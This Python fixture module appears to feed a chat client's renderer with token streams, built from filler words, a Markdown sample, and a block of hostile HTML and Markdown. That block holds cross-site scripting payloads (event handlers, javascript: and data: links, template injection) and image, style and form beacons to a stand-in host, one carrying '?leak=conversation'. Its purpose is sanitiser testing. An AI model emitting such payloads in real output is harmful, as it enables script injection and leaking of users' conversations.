"""Texts an answer can carry between its nonce and its end marker."""

import tomllib
from collections.abc import Iterator
from itertools import cycle, islice
from pathlib import Path

TOKEN_CHARS = 5

# fmt: off
WORDS = (
    "able ", "away ", "back ", "bird ", "blue ", "boat ", "book ", "calm ", "city ", "clay ", "coal ", "cold ", "corn ",
    "dawn ", "deep ", "door ", "dust ", "each ", "east ", "farm ", "fern ", "fire ", "fish ", "five ", "flow ", "fold ",
    "fork ", "gate ", "gift ", "glow ", "gold ", "good ", "hand ", "harp ", "hill ", "home ", "idea ", "iron ", "jazz ",
    "keen ", "kind ", "lake ", "leaf ", "line ", "long ", "loom ", "mild ", "moon ", "moss ", "near ", "nest ", "next ",
    "note ", "oaks ", "open ", "over ", "palm ", "path ", "pine ",
)
# fmt: on

MARKDOWN = """

# A short tour

Some **bold**, some *italic*, some ~~struck~~ words, `inline code`, and [a link](https://example.com/).

## Lists

- first
- second
  - nested
1. one
2. two

> A quotation, in two
> lines.

## Code

```python
def greet(name: str) -> str:
    return f"<b>Hello</b>, {name} & friends"
```

## A table

| language | greeting | length |
| :--- | :---: | ---: |
| English | Hello | 5 |
| العربية | مرحبا | 5 |
| 日本語 | こんにちは | 5 |
| emoji | 👋🏽 👩‍👩‍👧 | 2 |

---

The end, with an odd entity: &copy; and a bare < sign.
"""

# Each attempt that succeeds either sets window.hostile or asks for a host name that cannot exist (RFC 6761).
HOSTILE = """

<script>window.hostile = 'script'</script>
<img src="x" onerror="window.hostile = 'onerror'">
<svg onload="window.hostile = 'svg'"><circle r="9"/></svg>

[a link](javascript:window.hostile='link') and <a href="JaVaScRiPt:window.hostile='html-link'">another</a>,
<javascript:window.hostile='autolink'>, [data](data:text/html,<script>window.hostile='data'</script>)

![beacon](https://beacon.invalid/pixel.png?leak=conversation)
<img src="https://beacon.invalid/html.png">
<iframe srcdoc="<script>parent.hostile = 'iframe'</script>"></iframe>
<style>body { display: none; background: url(https://beacon.invalid/style.png) }</style>
<form action="https://beacon.invalid/"><input name="password" autofocus onfocus="window.hostile = 'focus'"></form>
<details open ontoggle="window.hostile = 'toggle'"><math><mi xlink:href="javascript:window.hostile='math'">x</mi></math>

</div></body></html><!-- <script>window.hostile = 'comment'</script>
{{constructor.constructor('window.hostile = "template"')()}} ${window.hostile = 'literal'}
"""

#: the same one at a time, and many more, to tell which of them works
SINGLE = tomllib.loads((Path(__file__).parent / "hostile.toml").read_text(encoding="utf-8"))

TEXTS = {"markdown": MARKDOWN, "hostile": HOSTILE} | {
    f"hostile-{name}": f"\n\n{text}\n\n" for name, text in SINGLE.items()
}
OF_REQUEST = ("echo", "parameters")  # what the client sent: its message, or its settings
NAMES = ("words", *OF_REQUEST, *TEXTS)


def words(count: int, draw: int, shift: int = 0) -> list[str]:
    """Return ``count`` tokens of a four-letter word and a space, chosen by ``draw``; each shift has other words."""
    start, stride = draw % len(WORDS), 1 + draw // len(WORDS) % (len(WORDS) - 1)
    size = len(WORDS)
    return [WORDS[(start + shift + i * stride) % size] for i in range(count)]


def slices(text: str) -> list[str]:
    """Cut a text into tokens; spaces that fill the last go before final line breaks, lest they indent what follows."""
    stem = text.rstrip("\n")
    tail = text[len(stem) :]
    padded = stem + " " * (-len(text) % TOKEN_CHARS) + tail
    return [padded[i : i + TOKEN_CHARS] for i in range(0, len(padded), TOKEN_CHARS)]


def fitted(tokens: list[str], count: int) -> list[str]:
    """Repeat or cut tokens to ``count``; spaces where there is nothing to repeat."""
    source: Iterator[str] = cycle(tokens or [" " * TOKEN_CHARS])
    return list(islice(source, count))
